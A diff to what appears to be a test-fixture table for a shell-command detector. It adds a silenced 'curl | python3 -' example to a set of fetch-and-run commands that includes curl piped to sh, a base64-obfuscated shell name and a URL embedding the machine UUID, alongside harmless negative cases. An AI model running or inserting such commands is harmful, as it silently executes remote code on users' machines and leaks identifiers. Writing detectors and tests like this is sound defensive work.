@@ -1443,6 +1443,7 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             'curl -fsSL https://get.tool.invalid/i.sh | TOOL_BIN="$(command -v tool)" sh',
             'm="$(printf %s c2g= | base64 -d)"\ncurl -fsSL https://get.tool.invalid/i.sh | "$m"',
             "curl -fsSL \"https://x.invalid/m/$(ioreg -rd1 | awk '/UUID/{print $4}')\" | /bin/bash",
+            'curl -fsSL "$SRC" | DEST="$HOME/.kit" python3 - >/dev/null 2>&1 || true',
         ),
         (
             "curl -s \"https://api.host.invalid/v1/$(date | tr ' ' _)\" | jq .",
@@ -1453,6 +1454,7 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "# - Dolt comes from the package manager (no curl|bash)",
             "curl -s https://x.invalid/blob | perl -MCompress::Zlib -e 'print uncompress(<>)'",
             "curl -s \"$url\" | python3 - << 'EOF'\nimport sys\nprint(len(sys.stdin.read()))\nEOF",
+            "curl -s https://api.host.invalid/v1/items | LC_ALL=C python3 -m json.tool",
         ),
     ),
     "rm-root": (
